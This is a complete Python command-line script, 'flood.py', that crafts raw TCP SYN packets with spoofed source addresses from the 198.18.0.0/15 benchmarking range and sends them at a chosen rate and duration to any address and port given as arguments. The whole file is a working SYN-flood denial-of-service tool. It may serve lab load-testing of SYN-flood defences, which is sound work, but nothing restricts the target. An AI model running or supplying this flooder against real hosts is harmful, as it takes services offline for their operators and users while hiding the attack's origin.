"""flood - SYNs that nobody means, from addresses that nobody has.

    flood.py ADDRESS PORT SECONDS [RATE]   send them, from 198.18.0.0/15; says how many
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def make(destination, port, chance):
    source = struct.pack("!I", 0xc6120000 | chance.getrandbits(17))
    options = bytes((2, 4, 5, 180, 4, 2, 8, 10)) + struct.pack("!II", chance.getrandbits(32), 0) + bytes((1, 3, 3, 7))
    tcp = struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 10 << 4, 2, 64240, 0, 0) + options
    tcp = tcp[:16] + struct.pack("!H", checksum(source + destination + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, destination)
    return ip + tcp


def main(address, port, seconds, rate):
    chance = random.Random(1)
    destination = socket.inet_aton(address)
    packets = [make(destination, port, chance) for _ in range(20000)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    while time.monotonic() < start + seconds:
        for _ in range(50):
            raw.sendto(packets[sent % len(packets)], (address, 0))
            sent += 1
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(f"{sent} SYNs", flush=True)


main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]) if len(sys.argv) > 4 else 20000)
